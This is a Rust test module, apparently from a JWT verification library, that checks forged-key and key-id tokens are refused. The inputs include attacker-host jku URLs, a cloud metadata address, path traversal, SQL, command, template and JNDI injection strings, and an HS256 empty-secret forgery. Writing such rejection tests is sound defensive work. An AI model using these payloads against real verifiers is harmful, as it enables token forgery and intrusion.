//! The token chooses the key: it brings a key along, or names it in a way that a careless receiver looks up.

use aws_lc_rs::hmac;
use serde_json::{Value, json};

use super::super::fixture::{SIGNER_A, SIGNER_B, Signer, base64, claims, header_with, unsigned};
use super::{Category, Row};
use crate::Rejection;

/// Signs with a key that the issuer does not publish, under a key id that it does not know.
const STRANGER: Signer = Signer { key_id: "stranger", key: SIGNER_B.key };
/// The same under the issuer's key id.
const FORGER: Signer = Signer { key_id: SIGNER_A.key_id, key: SIGNER_B.key };

pub(super) fn rows() -> Vec<Row> {
    let mut rows = brought_along();
    rows.extend(named());
    rows
}

fn brought_along() -> Vec<Row> {
    let category = Category::ForgedKeys;
    let certificate = json!(["MIIBszCCAVmgAwIBAgIUFAKE"]);
    let members = [
        ("jwk", STRANGER.jwk()),
        ("jku", json!("https://evil.example.com/jwks.json")),
        ("x5u", json!("https://evil.example.com/chain.pem")),
        ("x5c", certificate),
        ("x5t", json!(base64(&[7; 20]))),
        ("x5t#S256", json!(base64(&[7; 32]))),
    ];
    let mut rows = Vec::new();
    for (member, value) in members {
        for (forger, rejection) in [(STRANGER, Rejection::UnknownKey), (FORGER, Rejection::Signature)] {
            let mut header = forger.header();
            header[member] = value.clone();
            let name = format!("a key of its own in `{member}`, under the id {}", forger.key_id);
            rows.push(Row::refused(category, name, &forger.token_with_header(&header, &claims()), rejection));
        }
        let good = SIGNER_A.token_with_header(&header_with(member, value), &claims());
        rows.push(Row::accepted(category, format!("the issuer's signature, and a needless `{member}`"), &good));
    }
    let mut header = STRANGER.header();
    header["jwk"] = STRANGER.jwk();
    header.as_object_mut().unwrap().remove("kid");
    let token = STRANGER.token_with_header(&header, &claims());
    rows.push(Row::refused(category, "a key of its own and no key id", &token, Rejection::UnknownKey));
    let local = header_with("jku", "http://169.254.169.254/latest/meta-data/".into());
    let token = FORGER.token_with_header(&local, &claims());
    rows.push(Row::refused(category, "a key at the address of the machine's secrets", &token, Rejection::Signature));
    for (member, value) in [("jwk", json!("key")), ("jku", json!(5)), ("x5c", json!("certificate")), ("x5u", json!([]))]
    {
        let token = SIGNER_A.token_with_header(&header_with(member, value), &claims());
        let name = format!("the issuer's signature, and a `{member}` of another type");
        rows.push(Row::refused(category, name, &token, Rejection::Malformed));
    }
    rows.push(Row::refused(
        category,
        "another key under the issuer's id",
        &FORGER.token(&claims()),
        Rejection::Signature,
    ));
    rows
}

fn named() -> Vec<Row> {
    let category = Category::KeyIds;
    let mut rows = Vec::new();
    for key_id in [
        "unknown",
        "",
        " ",
        "key-A",
        "KEY-A",
        " key-a",
        "key-a ",
        "key-a\n",
        "key-a\u{0}",
        "key-a\u{0}.pem",
        "k\u{435}y-a",
        "key",
        "key-a,key-b",
        "../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///dev/null",
        "https://evil.example.com/jwks.json",
        "' UNION SELECT 'AAAA' -- ",
        "key-a' OR '1'='1",
        "key-a; DROP TABLE keys",
        "$(sleep 9)",
        "|/usr/bin/id",
        "{{7*7}}",
        "${jndi:ldap://evil.example.com/a}",
        "*",
        "key-?",
        "__proto__",
        "0",
    ] {
        let token = SIGNER_A.token_with_header(&header_with("kid", key_id.into()), &claims());
        rows.push(Row::refused(category, format!("the key id {key_id:?}"), &token, Rejection::UnknownKey));
    }
    for bytes in [128, 129, 4_000] {
        let token = SIGNER_A.token_with_header(&header_with("kid", "k".repeat(bytes).into()), &claims());
        rows.push(Row::refused(category, format!("a key id of {bytes} bytes"), &token, Rejection::UnknownKey));
    }
    let nameless = json!({ "alg": "RS256", "typ": "JWT" });
    for (name, header) in [("no key id", nameless), ("null as the key id", header_with("kid", Value::Null))] {
        let token = SIGNER_A.token_with_header(&header, &claims());
        rows.push(Row::refused(category, name, &token, Rejection::UnknownKey));
    }
    for (name, key_id) in [
        ("a number as the key id", json!(0)),
        ("true as the key id", json!(true)),
        ("a list as the key id", json!([SIGNER_A.key_id])),
        ("an object as the key id", json!({ "$ne": null })),
    ] {
        let token = SIGNER_A.token_with_header(&header_with("kid", key_id), &claims());
        rows.push(Row::refused(category, name, &token, Rejection::Malformed));
    }
    let mut header = header_with("kid", "/dev/null".into());
    header["alg"] = "HS256".into();
    let empty = unsigned(&header, &claims());
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, b""), empty.as_bytes());
    let token = format!("{empty}.{}", base64(tag.as_ref()));
    rows.push(Row::refused(category, "HS256 with an empty file as the secret", &token, Rejection::Algorithm));
    rows.push(Row::accepted(category, "the key id of the issuer", &SIGNER_A.token(&claims())));
    rows
}
